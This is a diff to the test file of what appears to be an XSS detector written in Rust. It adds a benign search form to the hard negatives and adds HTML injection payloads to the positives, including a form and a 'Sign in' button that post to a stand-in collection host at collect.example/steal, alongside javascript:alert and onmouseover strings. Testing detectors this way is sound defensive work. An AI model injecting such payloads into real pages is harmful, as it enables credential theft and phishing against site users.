@@ -186,6 +186,7 @@ const HARD_NEGATIVES: &[&str] = &[
     "Price (incl. VAT): 12.50 EUR",
     "The function f(x) = sin(x) + cos(x) is periodic",
     "<p>Use the <code>onclick</code> attribute carefully.</p>",
+    "<form action=\"/search\" method=\"get\"><input name=q></form>",
     "Why does my alert box not show?",
     "top 10 (ten) things to do",
     "self-care tips (for developers)",
@@ -245,6 +246,8 @@ fn hand_written_positives() {
         "<iframe src=javascript:alert(1)>",
         "<script>alert(1)</script>",
         "\" onmouseover=\"alert(1)",
+        "<form name=\"x\" action=\"https://collect.example/steal\" method=\"post\">",
+        "<button formaction=//collect.example/p>Sign in</button>",
     ] {
         assert!(xss(text, Place::QueryValue, 1).is_some(), "missed {text}");
     }
